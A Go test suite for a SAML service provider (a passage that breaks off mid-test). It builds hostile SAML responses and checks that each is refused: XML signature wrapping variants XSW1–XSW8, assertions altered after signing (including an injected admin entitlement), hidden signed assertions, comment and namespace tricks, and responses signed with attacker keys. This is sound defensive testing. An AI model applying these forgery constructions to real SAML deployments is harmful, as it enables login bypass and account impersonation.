package samlsp

import (
	"context"
	"crypto/rsa"
	"crypto/x509"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/beevik/etree"
	dsig "github.com/russellhaering/goxmldsig"

	"github.com/skolbro/skolbro/internal/keys"
	"github.com/skolbro/skolbro/internal/samlxml"
	"github.com/skolbro/skolbro/internal/testidp"
	"github.com/skolbro/skolbro/internal/xmlsig"
)

// refusalCase is one hostile or broken response: opts make it from a
// fresh login of browserA, raw (when set) replaces it entirely.
type refusalCase struct {
	name    string
	opts    func(t *testing.T, f *fixture) []testidp.Option
	raw     func(t *testing.T, f *fixture, req testidp.Request) string
	binding string
	reason  string
	status  int
}

func runRefusals(t *testing.T, cases []refusalCase, fopts ...fixtureOpt) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, fopts...)
			req := f.login(browserA)
			var resp string
			switch {
			case tc.raw != nil:
				resp = tc.raw(t, f, req)
			case tc.opts != nil:
				resp = f.respond(req, tc.opts(t, f)...)
			default:
				resp = f.respond(req)
			}
			binding := tc.binding
			if binding == "" {
				binding = browserA
			}
			status := tc.status
			if status == 0 {
				status = http.StatusBadRequest
			}
			f.expectRefusal(t, f.sp, resp, binding, tc.reason, status)
		})
	}
}

func opts(o ...testidp.Option) func(*testing.T, *fixture) []testidp.Option {
	return func(*testing.T, *fixture) []testidp.Option { return o }
}

func after(fn func(t *testing.T, doc *etree.Document)) func(*testing.T, *fixture) []testidp.Option {
	return func(t *testing.T, _ *fixture) []testidp.Option {
		return []testidp.Option{testidp.AfterSigning(func(doc *etree.Document) { fn(t, doc) })}
	}
}

func before(fn func(t *testing.T, doc *etree.Document)) func(*testing.T, *fixture) []testidp.Option {
	return func(t *testing.T, _ *fixture) []testidp.Option {
		return []testidp.Option{testidp.BeforeSigning(func(doc *etree.Document) { fn(t, doc) })}
	}
}

// Paths into the test IdP's documents.
const (
	pNameID   = "saml:Subject/saml:NameID"
	pSCD      = "saml:Subject/saml:SubjectConfirmation/saml:SubjectConfirmationData"
	pConds    = "saml:Conditions"
	pAudience = "saml:Conditions/saml:AudienceRestriction/saml:Audience"
	pAuthn    = "saml:AuthnStatement"
)

func attrValue(t testing.TB, a *etree.Element, name string) *etree.Element {
	t.Helper()
	for _, at := range a.FindElements("saml:AttributeStatement/saml:Attribute") {
		if at.SelectAttrValue("Name", "") == name {
			return mustFind(t, at, "saml:AttributeValue")
		}
	}
	t.Fatalf("no attribute %s", name)
	return nil
}

func TestCase01_Unsigned(t *testing.T) {
	runRefusals(t, []refusalCase{
		{name: "response_and_assertion_unsigned", opts: opts(testidp.UnsignedAssertion()), reason: ReasonUnsigned},
		{name: "response_signed_assertion_unsigned", opts: opts(testidp.UnsignedAssertion(), testidp.SignResponse()), reason: ReasonUnsigned},
		{name: "assertion_signature_removed", opts: after(func(t *testing.T, doc *etree.Document) {
			removeSignature(assertionOf(doc))
		}), reason: ReasonUnsigned},
		{name: "both_signatures_removed", opts: func(t *testing.T, f *fixture) []testidp.Option {
			return []testidp.Option{testidp.SignResponse(), testidp.AfterSigning(func(doc *etree.Document) {
				removeSignature(doc.Root())
				removeSignature(assertionOf(doc))
			})}
		}, reason: ReasonUnsigned},
	})
}

func TestCase02_ModifiedAfterSigning(t *testing.T) {
	runRefusals(t, []refusalCase{
		{name: "nameid_changed", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pNameID).SetText("8f1c2a3e-5b6d-4e7f-8a9b-0c1d2e3f4a54")
		}), reason: ReasonBadSignature},
		{name: "attribute_value_changed", opts: after(func(t *testing.T, doc *etree.Document) {
			attrValue(t, assertionOf(doc), testidp.AttrSecurityMarking).SetText(testidp.MarkingNone + " ")
		}), reason: ReasonBadSignature},
		{name: "protection_marking_removed", opts: func(t *testing.T, f *fixture) []testidp.Option {
			f.user, _ = f.idp.User("eva.e")
			return []testidp.Option{testidp.AfterSigning(func(doc *etree.Document) {
				attrValue(t, assertionOf(doc), testidp.AttrSecurityMarking).SetText(testidp.MarkingNone)
			})}
		}, reason: ReasonBadSignature},
		{name: "attribute_added", opts: after(func(t *testing.T, doc *etree.Document) {
			st := mustFind(t, assertionOf(doc), "saml:AttributeStatement")
			at := st.CreateElement("saml:Attribute")
			at.CreateAttr("Name", testidp.AttrEntitlement)
			at.CreateElement("saml:AttributeValue").SetText("urn:x-skolbro:entitlement:admin")
		}), reason: ReasonBadSignature},
		{name: "audience_changed", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pAudience).SetText("https://other.example.se/sp")
		}), reason: ReasonBadSignature},
		{name: "validity_extended", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pConds).CreateAttr("NotOnOrAfter", testidp.Timestamp(t0.Add(time.Hour)))
		}), reason: ReasonBadSignature},
		{name: "signed_response_destination_changed", opts: func(t *testing.T, f *fixture) []testidp.Option {
			return []testidp.Option{testidp.SignResponse(), testidp.AfterSigning(func(doc *etree.Document) {
				// Still the ACS, spelt differently by a proxy: the
				// Response signature no longer matches.
				doc.Root().CreateAttr("IssueInstant", testidp.Timestamp(t0.Add(time.Second)))
			})}
		}, reason: ReasonBadSignature},
		{name: "signature_value_flipped", opts: after(func(t *testing.T, doc *etree.Document) {
			sv := mustFind(t, assertionOf(doc), "ds:Signature/ds:SignatureValue")
			v := []byte(sv.Text())
			if v[10] == 'A' {
				v[10] = 'B'
			} else {
				v[10] = 'A'
			}
			sv.SetText(string(v))
		}), reason: ReasonBadSignature},
		{name: "digest_value_changed", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "ds:Signature/ds:SignedInfo/ds:Reference/ds:DigestValue").
				SetText("qLap5TYwdnb7pome/VFCoVgYARMpApHpu1wASAMa8VQ=")
		}), reason: ReasonBadSignature},
	})
}

// xsw builds the wrapping attacks of Somorovsky et al., "On Breaking SAML"
// (2012), in the forms SAML Raider names XSW1-XSW8. evil is a copy of the
// signed assertion with another NameID; newID says whether the copy gets a
// fresh ID or keeps the original's.
func xsw(t testing.TB, n int, newID bool) func(*etree.Document) {
	return func(doc *etree.Document) {
		r := doc.Root()
		orig := assertionOf(doc)
		evilAssertion := func() *etree.Element {
			e := orig.Copy()
			removeSignature(e)
			if newID {
				e.CreateAttr("ID", "_evil0000000000000000000000000000")
			}
			mustFind(t, e, pNameID).SetText("8f1c2a3e-5b6d-4e7f-8a9b-0c1d2e3f4a54")
			return e
		}
		switch n {
		case 1, 2:
			// The Response is signed. A new (evil) Response takes its place
			// at the root and carries the original Signature; the original
			// Response goes inside that Signature (XSW1) or beside it (XSW2).
			evil := r.Copy()
			removeSignature(evil)
			if newID {
				evil.CreateAttr("ID", "_evilresp00000000000000000000000")
			}
			ea := samlxml.Children(evil, samlxml.NSAssertion, "Assertion")[0]
			removeSignature(ea)
			if newID {
				ea.CreateAttr("ID", "_evil0000000000000000000000000000")
			}
			mustFind(t, ea, pNameID).SetText("8f1c2a3e-5b6d-4e7f-8a9b-0c1d2e3f4a54")
			sig := removeSignature(r)
			if n == 1 {
				sig.AddChild(r)
				evil.InsertChildAt(1, sig)
			} else {
				evil.InsertChildAt(1, sig)
				evil.InsertChildAt(1, r)
			}
			doc.SetRoot(evil)
		case 3:
			// An unsigned evil assertion before the signed one.
			r.InsertChildAt(orig.Index(), evilAssertion())
		case 4:
			// The evil assertion replaces the signed one, which moves
			// inside it.
			e := evilAssertion()
			i := orig.Index()
			r.RemoveChild(orig)
			e.AddChild(orig)
			r.InsertChildAt(i, e)
		case 5:
			// The signed assertion's content is changed (it keeps its
			// Signature) and an unsigned copy of the original goes to the
			// end of the Response.
			cp := orig.Copy()
			removeSignature(cp)
			mustFind(t, orig, pNameID).SetText("8f1c2a3e-5b6d-4e7f-8a9b-0c1d2e3f4a54")
			if newID {
				orig.CreateAttr("ID", "_evil0000000000000000000000000000")
			}
			r.AddChild(cp)
		case 6:
			// As XSW5, but the unsigned original goes inside the evil
			// assertion's Signature.
			cp := orig.Copy()
			removeSignature(cp)
			mustFind(t, orig, pNameID).SetText("8f1c2a3e-5b6d-4e7f-8a9b-0c1d2e3f4a54")
			if newID {
				orig.CreateAttr("ID", "_evil0000000000000000000000000000")
			}
			mustFind(t, orig, "ds:Signature").AddChild(cp)
		case 7:
			// The signed assertion inside samlp:Extensions, an unsigned
			// evil one where it was.
			e := evilAssertion()
			i := orig.Index()
			r.RemoveChild(orig)
			ext := etree.NewElement("samlp:Extensions")
			ext.AddChild(orig)
			r.InsertChildAt(1, ext)
			r.InsertChildAt(i+1, e)
		case 8:
			// The evil assertion carries the original Signature, with the
			// unsigned original inside a ds:Object in it.
			cp := orig.Copy()
			sig := removeSignature(cp)
			mustFind(t, orig, pNameID).SetText("8f1c2a3e-5b6d-4e7f-8a9b-0c1d2e3f4a54")
			if newID {
				orig.CreateAttr("ID", "_evil0000000000000000000000000000")
			}
			_ = sig
			obj := etree.NewElement("ds:Object")
			obj.AddChild(cp)
			mustFind(t, orig, "ds:Signature").AddChild(obj)
		}
	}
}

func TestCase03_SignatureWrapping(t *testing.T) {
	var cases []refusalCase
	for n := 1; n <= 8; n++ {
		for _, newID := range []bool{true, false} {
			name := "XSW" + string(rune('0'+n))
			reason := ReasonAssertionCount
			switch {
			case !newID:
				name += "_same_id"
				reason = ReasonDuplicateID
			case n <= 2:
				reason = ReasonWrapped
			}
			o := []testidp.Option{testidp.AfterSigning(xsw(t, n, newID))}
			if n <= 2 {
				o = append([]testidp.Option{testidp.SignResponse()}, o...)
			}
			cases = append(cases, refusalCase{name: name, opts: opts(o...), reason: reason})
		}
	}
	runRefusals(t, cases)
}

// TestCase03_WrappingWithoutCopies covers wrapping that leaves one
// assertion: only the signature moves, or the reference points elsewhere.
func TestCase03_WrappingWithoutCopies(t *testing.T) {
	runRefusals(t, []refusalCase{
		{name: "signature_moved_to_response", opts: after(func(t *testing.T, doc *etree.Document) {
			sig := removeSignature(assertionOf(doc))
			doc.Root().InsertChildAt(1, sig)
		}), reason: ReasonBadSignature},
		{name: "signature_in_subject", opts: after(func(t *testing.T, doc *etree.Document) {
			a := assertionOf(doc)
			sig := removeSignature(a)
			mustFind(t, a, "saml:Subject").AddChild(sig)
		}), reason: ReasonSignaturePlacement},
		{name: "signature_in_status", opts: after(func(t *testing.T, doc *etree.Document) {
			sig := removeSignature(assertionOf(doc))
			mustFind(t, doc.Root(), "samlp:Status").AddChild(sig)
		}), reason: ReasonSignaturePlacement},
		{name: "two_signatures_on_assertion", opts: after(func(t *testing.T, doc *etree.Document) {
			a := assertionOf(doc)
			a.AddChild(mustFind(t, a, "ds:Signature").Copy())
		}), reason: ReasonSignaturePlacement},
		{name: "signature_in_foreign_namespace", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "ds:Signature").CreateAttr("xmlns:ds", "urn:x-evil")
		}), reason: ReasonSignaturePlacement},
		{name: "reference_to_response", opts: func(t *testing.T, f *fixture) []testidp.Option {
			// The assertion's signature references the (signed) Response
			// instead of the assertion.
			return []testidp.Option{testidp.SignResponse(), testidp.AfterSigning(func(doc *etree.Document) {
				mustFind(t, assertionOf(doc), "ds:Signature/ds:SignedInfo/ds:Reference").
					CreateAttr("URI", "#"+doc.Root().SelectAttrValue("ID", ""))
			})}
		}, reason: ReasonBadSignature},
		{name: "empty_reference_uri", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "ds:Signature/ds:SignedInfo/ds:Reference").CreateAttr("URI", "")
		}), reason: ReasonBadSignature},
		{name: "two_references", opts: after(func(t *testing.T, doc *etree.Document) {
			si := mustFind(t, assertionOf(doc), "ds:Signature/ds:SignedInfo")
			si.AddChild(mustFind(t, si, "ds:Reference").Copy())
		}), reason: ReasonBadSignature},
		{name: "object_in_signature", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "ds:Signature").CreateElement("ds:Object").SetText("x")
		}), reason: ReasonBadSignature},
		{name: "no_enveloped_transform", opts: after(func(t *testing.T, doc *etree.Document) {
			ts := mustFind(t, assertionOf(doc), "ds:Signature/ds:SignedInfo/ds:Reference/ds:Transforms")
			ts.RemoveChild(mustFind(t, ts, "ds:Transform"))
		}), reason: ReasonBadSignature},
		{name: "duplicate_id_attribute_on_assertion", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			s := decode(t, f.respond(req))
			return encode(strings.Replace(s, `<saml:Assertion `, `<saml:Assertion ID="_evil0000000000000000000000000000" `, 1))
		}, reason: ReasonMalformed},
	})
}

func TestCase04_SecondAssertion(t *testing.T) {
	second := func(t *testing.T, f *fixture, signed, first bool) []testidp.Option {
		// A second, complete assertion for another user from the same IdP.
		other, _ := f.idp.User("david.d")
		return []testidp.Option{testidp.AfterSigning(func(doc *etree.Document) {
			req := testidp.Request{ID: doc.Root().SelectAttrValue("InResponseTo", ""), ACSURL: acsURL, SPEntityID: spEntityID}
			var o []testidp.Option
			if !signed {
				o = append(o, testidp.UnsignedAssertion())
			}
			b, err := f.idp.Respond(req, other, o...)
			if err != nil {
				t.Fatal(err)
			}
			d := etree.NewDocument()
			if err := d.ReadFromString(decode(t, b)); err != nil {
				t.Fatal(err)
			}
			a := assertionOf(d)
			if first {
				doc.Root().InsertChildAt(assertionOf(doc).Index(), a)
			} else {
				doc.Root().AddChild(a)
			}
		})}
	}
	runRefusals(t, []refusalCase{
		{name: "unsigned_after_signed", opts: func(t *testing.T, f *fixture) []testidp.Option { return second(t, f, false, false) }, reason: ReasonAssertionCount},
		{name: "unsigned_before_signed", opts: func(t *testing.T, f *fixture) []testidp.Option { return second(t, f, false, true) }, reason: ReasonAssertionCount},
		{name: "two_signed_assertions", opts: func(t *testing.T, f *fixture) []testidp.Option { return second(t, f, true, false) }, reason: ReasonAssertionCount},
		{name: "assertion_in_foreign_namespace_beside", opts: after(func(t *testing.T, doc *etree.Document) {
			e := assertionOf(doc).Copy()
			removeSignature(e)
			e.CreateAttr("ID", "_evil0000000000000000000000000000")
			e.CreateAttr("xmlns:saml", "urn:x-evil")
			doc.Root().AddChild(e)
		}), reason: ReasonAssertionCount},
		{name: "only_assertion_in_foreign_namespace", opts: before(func(t *testing.T, doc *etree.Document) {
			assertionOf(doc).CreateAttr("xmlns:saml", "urn:x-evil")
		}), reason: ReasonAssertionCount},
		{name: "no_assertion_with_success", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().RemoveChild(assertionOf(doc))
		}), reason: ReasonAssertionCount},
	})
}

func TestCase05_HiddenSignedAssertion(t *testing.T) {
	forged := func(t *testing.T, doc *etree.Document, keepSignature bool) (orig, evil *etree.Element) {
		orig = assertionOf(doc)
		evil = orig.Copy()
		if !keepSignature {
			removeSignature(evil)
		}
		evil.CreateAttr("ID", "_evil0000000000000000000000000000")
		mustFind(t, evil, pNameID).SetText("8f1c2a3e-5b6d-4e7f-8a9b-0c1d2e3f4a54")
		i := orig.Index()
		doc.Root().RemoveChild(orig)
		doc.Root().InsertChildAt(i, evil)
		return orig, evil
	}
	runRefusals(t, []refusalCase{
		{name: "signed_in_extensions", opts: after(func(t *testing.T, doc *etree.Document) {
			orig, _ := forged(t, doc, false)
			ext := etree.NewElement("samlp:Extensions")
			ext.AddChild(orig)
			doc.Root().InsertChildAt(1, ext)
		}), reason: ReasonAssertionCount},
		{name: "signed_in_advice", opts: after(func(t *testing.T, doc *etree.Document) {
			orig, evil := forged(t, doc, false)
			adv := etree.NewElement("saml:Advice")
			adv.AddChild(orig)
			evil.InsertChildAt(mustFind(t, evil, pConds).Index()+1, adv)
		}), reason: ReasonAssertionCount},
		{name: "signed_in_advice_forged_keeps_signature", opts: after(func(t *testing.T, doc *etree.Document) {
			orig, evil := forged(t, doc, true)
			adv := etree.NewElement("saml:Advice")
			adv.AddChild(orig)
			evil.InsertChildAt(mustFind(t, evil, pConds).Index()+1, adv)
		}), reason: ReasonAssertionCount},
		{name: "signed_in_foreign_extension_element", opts: after(func(t *testing.T, doc *etree.Document) {
			orig, _ := forged(t, doc, false)
			ext := etree.NewElement("x:Wrapper")
			ext.CreateAttr("xmlns:x", "urn:x-evil")
			ext.AddChild(orig)
			doc.Root().AddChild(ext)
		}), reason: ReasonAssertionCount},
	})
}

func TestCase06_Comments(t *testing.T) {
	splitWithComment := func(el *etree.Element) {
		v := el.Text()
		el.SetText(v[:8])
		el.CreateComment("")
		el.CreateText(v[8:])
	}
	runRefusals(t, []refusalCase{
		{name: "comment_in_nameid_after_signing", opts: after(func(t *testing.T, doc *etree.Document) {
			splitWithComment(mustFind(t, assertionOf(doc), pNameID))
		}), reason: ReasonComment},
		{name: "comment_in_nameid_before_signing", opts: before(func(t *testing.T, doc *etree.Document) {
			splitWithComment(mustFind(t, assertionOf(doc), pNameID))
		}), reason: ReasonComment},
		{name: "comment_in_attribute_value", opts: after(func(t *testing.T, doc *etree.Document) {
			splitWithComment(attrValue(t, assertionOf(doc), testidp.AttrEPPN))
		}), reason: ReasonComment},
		{name: "processing_instruction_in_value", opts: after(func(t *testing.T, doc *etree.Document) {
			attrValue(t, assertionOf(doc), testidp.AttrEPPN).CreateProcInst("x", "y")
		}), reason: ReasonComment},
		{name: "comment_in_response_issuer", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, doc.Root(), "saml:Issuer").CreateComment("c")
		}), reason: ReasonComment},
		{name: "comment_in_signed_info", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "ds:Signature/ds:SignedInfo").CreateComment("c")
		}), reason: ReasonComment},
	})
}

func TestCase07_RoundTrip(t *testing.T) {
	replace := func(old, new string) func(t *testing.T, f *fixture, req testidp.Request) string {
		return func(t *testing.T, f *fixture, req testidp.Request) string {
			s := decode(t, f.respond(req))
			if !strings.Contains(s, old) {
				t.Fatalf("response has no %q", old)
			}
			return encode(strings.Replace(s, old, new, 1))
		}
	}
	runRefusals(t, []refusalCase{
		// Constructs encoding/xml does not round-trip (the class of
		// mattermost/xml-roundtrip-validator's findings).
		{name: "colon_attribute", raw: replace(`<saml:NameID `, `<saml:NameID ::attr="x" `), reason: ReasonRoundTrip},
		{name: "colon_prefixed_element", raw: replace(`<saml:NameID `, `<:saml:NameID `), reason: ReasonRoundTrip},
		// encoding/xml reads ":Format" as an attribute named ":Format"; in
		// signed content it breaks the signature, elsewhere it is inert.
		{name: "empty_prefix_attribute_in_assertion", raw: replace(`<saml:NameID `, `<saml:NameID :Format="x" `), reason: ReasonBadSignature},
		{name: "directive_in_assertion", raw: replace(`<saml:Subject>`, `<saml:Subject><!x>`), reason: ReasonMalformed},
		{name: "directive_in_response", raw: replace(`<samlp:Status>`, `<samlp:Status><!x>`), reason: ReasonMalformed},
		// A duplicate attribute is not well-formed XML; etree keeps the
		// last, another parser may keep the first.
		{name: "duplicate_destination", raw: replace(`<samlp:Response `, `<samlp:Response Destination="https://other.example.se/acs" `), reason: ReasonMalformed},
		// Namespace prefix games: the element looks like saml:NameID but
		// is not in the SAML namespace.
		{name: "nameid_prefix_rebound_after_signing", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pNameID).CreateAttr("xmlns:saml", "urn:x-evil")
		}), reason: ReasonBadSignature},
		{name: "nameid_prefix_rebound_before_signing", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pNameID).CreateAttr("xmlns:saml", "urn:x-evil")
		}), reason: ReasonMalformed},
		{name: "response_prefix_rebound", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().CreateAttr("xmlns:samlp", "urn:x-evil")
		}), reason: ReasonMalformed},
		// etree's SelectAttr (which goxmldsig uses for ID) matches any
		// prefix: a second ID in another namespace is refused, and a
		// prefixed Destination is not a Destination.
		{name: "prefixed_id_beside_id", raw: replace(`<saml:Assertion `, `<saml:Assertion xmlns:x="urn:x" x:ID="_evil0000000000000000000000000000" `), reason: ReasonMalformed},
		{name: "prefixed_destination_only", opts: after(func(t *testing.T, doc *etree.Document) {
			r := doc.Root()
			r.RemoveAttr("Destination")
			r.CreateAttr("xmlns:x", "urn:x")
			r.CreateAttr("x:Destination", acsURL)
		}), reason: ReasonDestination},
		// goxmldsig refuses to canonicalise a rebound xml prefix.
		{name: "xml_prefix_redeclared", raw: replace(`<saml:NameID `, `<saml:NameID xmlns:xml="urn:x-evil" `), reason: ReasonBadSignature},
	})
}

func TestCase08_MissingOrForeign(t *testing.T) {
	raw := func(s string) func(*testing.T, *fixture, testidp.Request) string {
		return func(*testing.T, *fixture, testidp.Request) string { return encode(s) }
	}
	remove := func(path string) func(t *testing.T, doc *etree.Document) {
		return func(t *testing.T, doc *etree.Document) {
			el := mustFind(t, assertionOf(doc), path)
			el.Parent().RemoveChild(el)
		}
	}
	runRefusals(t, []refusalCase{
		{name: "assertion_issuer_missing", opts: before(remove("saml:Issuer")), reason: ReasonIssuer},
		{name: "assertion_issuer_other_idp", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "saml:Issuer").SetText("https://idp.other.example.se/idp")
		}), reason: ReasonIssuer},
		{name: "assertion_issuer_wrong_format", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "saml:Issuer").CreateAttr("Format", testidp.NameIDPersistent)
		}), reason: ReasonIssuer},
		{name: "response_issuer_other_idp", opts: after(func(t *testing.T, doc *etree.Document) {
			mustFind(t, doc.Root(), "saml:Issuer").SetText("https://idp.other.example.se/idp")
		}), reason: ReasonIssuer},
		{name: "nameid_foreign_namespace", opts: before(func(t *testing.T, doc *etree.Document) {
			n := mustFind(t, assertionOf(doc), pNameID)
			n.Space = "x"
			n.CreateAttr("xmlns:x", "urn:x-evil")
		}), reason: ReasonMalformed},
		{name: "nameid_missing", opts: before(remove(pNameID)), reason: ReasonMalformed},
		{name: "nameid_empty", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pNameID).SetText("")
		}), reason: ReasonMalformed},
		{name: "two_nameids", opts: before(func(t *testing.T, doc *etree.Document) {
			n := mustFind(t, assertionOf(doc), pNameID)
			n.Parent().InsertChildAt(0, n.Copy())
		}), reason: ReasonMalformed},
		{name: "subject_missing", opts: before(remove("saml:Subject")), reason: ReasonMalformed},
		{name: "subject_base_id", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "saml:Subject").CreateElement("saml:BaseID")
		}), reason: ReasonMalformed},
		{name: "confirmation_holder_of_key", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "saml:Subject/saml:SubjectConfirmation").
				CreateAttr("Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key")
		}), reason: ReasonSubjectConfirmation},
		{name: "two_confirmations", opts: before(func(t *testing.T, doc *etree.Document) {
			sc := mustFind(t, assertionOf(doc), "saml:Subject/saml:SubjectConfirmation")
			sc.Parent().AddChild(sc.Copy())
		}), reason: ReasonSubjectConfirmation},
		{name: "confirmation_missing", opts: before(remove("saml:Subject/saml:SubjectConfirmation")), reason: ReasonSubjectConfirmation},
		{name: "confirmation_data_missing", opts: before(remove(pSCD)), reason: ReasonSubjectConfirmation},
		{name: "confirmation_not_on_or_after_missing", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pSCD).RemoveAttr("NotOnOrAfter")
		}), reason: ReasonSubjectConfirmation},
		{name: "attribute_statement_foreign_child", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "saml:AttributeStatement").CreateElement("saml:NameID").SetText("x")
		}), reason: ReasonMalformed},
		{name: "authn_statement_missing", opts: before(remove(pAuthn)), reason: ReasonAuthnStatement},
		{name: "two_authn_statements", opts: before(func(t *testing.T, doc *etree.Document) {
			as := mustFind(t, assertionOf(doc), pAuthn)
			as.Parent().InsertChildAt(as.Index(), as.Copy())
		}), reason: ReasonAuthnStatement},
		{name: "authn_instant_missing", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pAuthn).RemoveAttr("AuthnInstant")
		}), reason: ReasonAuthnStatement},
		{name: "attribute_without_name", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), "saml:AttributeStatement/saml:Attribute").RemoveAttr("Name")
		}), reason: ReasonMalformed},
		{name: "unknown_condition", opts: before(func(t *testing.T, doc *etree.Document) {
			mustFind(t, assertionOf(doc), pConds).CreateElement("saml:Condition")
		}), reason: ReasonMalformed},
		{name: "bad_issue_instant", opts: before(func(t *testing.T, doc *etree.Document) {
			assertionOf(doc).CreateAttr("IssueInstant", "2030-01-15 10:00:00")
		}), reason: ReasonMalformed},
		{name: "status_missing", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().RemoveChild(mustFind(t, doc.Root(), "samlp:Status"))
		}), reason: ReasonMalformed},
		{name: "status_code_missing", opts: after(func(t *testing.T, doc *etree.Document) {
			st := mustFind(t, doc.Root(), "samlp:Status")
			st.RemoveChild(mustFind(t, st, "samlp:StatusCode"))
		}), reason: ReasonMalformed},
		{name: "version_1_1", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().CreateAttr("Version", "1.1")
		}), reason: ReasonMalformed},
		{name: "response_id_missing", opts: after(func(t *testing.T, doc *etree.Document) {
			doc.Root().RemoveAttr("ID")
		}), reason: ReasonMalformed},
		{name: "root_is_authn_request", raw: raw(`<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0"/>`), reason: ReasonMalformed},
		{name: "root_unqualified_response", raw: raw(`<Response ID="_a" Version="2.0"/>`), reason: ReasonMalformed},
		{name: "empty_response", raw: raw(`<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_a" Version="2.0" Destination="https://bridge.example.se/saml/acs"/>`), reason: ReasonMalformed},
		{name: "not_xml", raw: raw(`Anna Andersson 201203149826`), reason: ReasonMalformed},
		// The bounded first pass reads the input first and finds the cut
		// tag.
		{name: "truncated", raw: func(t *testing.T, f *fixture, req testidp.Request) string {
			s := decode(t, f.respond(req))
			return encode(s[:len(s)/2])
		}, reason: ReasonMalformed},
		{name: "empty", raw: raw(""), reason: ReasonMalformed},
		{name: "bad_base64", raw: func(*testing.T, *fixture, testidp.Request) string { return "not base64!" }, reason: ReasonMalformed},
	})
}

func TestCase09_UnknownKey(t *testing.T) {
	signWithAttacker := func(t *testing.T, f *fixture) []testidp.Option {
		return []testidp.Option{testidp.SignWith(signer(t, f.keys.attacker))}
	}
	runRefusals(t, []refusalCase{
		{name: "attacker_key_cert_embedded", opts: signWithAttacker, reason: ReasonBadSignature},
		{name: "attacker_key_no_keyinfo", opts: func(t *testing.T, f *fixture) []testidp.Option {
			return append(signWithAttacker(t, f), testidp.AfterSigning(func(doc *etree.Document) {
				sig := mustFind(t, assertionOf(doc), "ds:Signature")
				sig.RemoveChild(mustFind(t, sig, "ds:KeyInfo"))
			}))
		}, reason: ReasonBadSignature},
		{name: "attacker_key_claims_idp_cert", opts: func(t *testing.T, f *fixture) []testidp.Option {
			return append(signWithAttacker(t, f), testidp.AfterSigning(func(doc *etree.Document) {
				mustFind(t, assertionOf(doc), "ds:Signature/ds:KeyInfo/ds:X509Data/ds:X509Certificate").
					SetText(encodeStd(f.keys.idp.Cert.Raw))
			}))
		}, reason: ReasonBadSignature},
		{name: "attacker_signs_response_idp_signed_assertion", opts: func(t *testing.T, f *fixture) []testidp.Option {
			// The assertion is the IdP's; a Response signature by another
			// key must still fail the whole response.
			return []testidp.Option{testidp.AfterSigning(func(doc *etree.Document) {
				signed, err := signer(t, f.keys.attacker).SignEnveloped(doc.Root())
				if err != nil {
					t.Fatal(err)
				}
				doc.SetRoot(signed)
			})}
		}, reason: ReasonBadSignature},
		{name: "ecdsa_attacker_key", opts: func(t *testing.T, f *fixture) []testidp.Option {
			return []testidp.Option{testidp.SignWith(signer(t, f.keys.idpEC))}
		}, reason: ReasonBadSignature},
	})
	t.Run("metadata_cert_expired", func(t *testing.T) {
		// goxmldsig checks the metadata certificate's validity period
		// against the SP's clock; an expired one fails closed.
		old, err := keys.Generate("old", keys.P256, t0.Add(-6*365*24*time.Hour))
		if err != nil {
			t.Fatal(err)
		}
		f := newFixture(t, withCerts(old), withIdPSigner(signer(t, old)))
		f.expectRefusal(t, f.sp, f.respond(f.login(browserA)), browserA, ReasonBadSignature, http.StatusBadRequest)
	})
}

const (
	rsaSHA1    = "http://www.w3.org/2000/09/xmldsig#rsa-sha1"
	digestSHA1 = "http://www.w3.org/2000/09/xmldsig#sha1"
	hmacSHA256 = "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"
	c14n11     = "http://www.w3.org/2006/12/xml-c14n11"
)

func TestCase10_SHA1(t *testing.T) {
	manual := func(sigMethod, digest, c14n string) func(*testing.T, *fixture) []testidp.Option {
		return func(t *testing.T, f *fixture) []testidp.Option {
			return []testidp.Option{testidp.UnsignedAssertion(), testidp.AfterSigning(func(doc *etree.Document) {
				manualSign(t, assertionOf(doc), f.keys.idp.Signer.(*rsa.PrivateKey), sigMethod, digest, c14n)
			})}
		}
	}
	// Control: the manual signer makes signatures the SP accepts, so the
	// refusals below are about the algorithms and nothing else.
	t.Run("control_manual_rsa_sha256", func(t *testing.T) {
		f := newFixture(t)
		resp := f.respond(f.login(browserA), manual(xmlsig.RSASHA256, xmlsig.DigestSHA256, xmlsig.ExcC14N)(t, f)...)
		f.expectSuccess(t, f.sp, resp, browserA)
	})
	runRefusals(t, []refusalCase{
		{name: "goxmldsig_rsa_sha1", opts: func(t *testing.T, f *fixture) []testidp.Option {
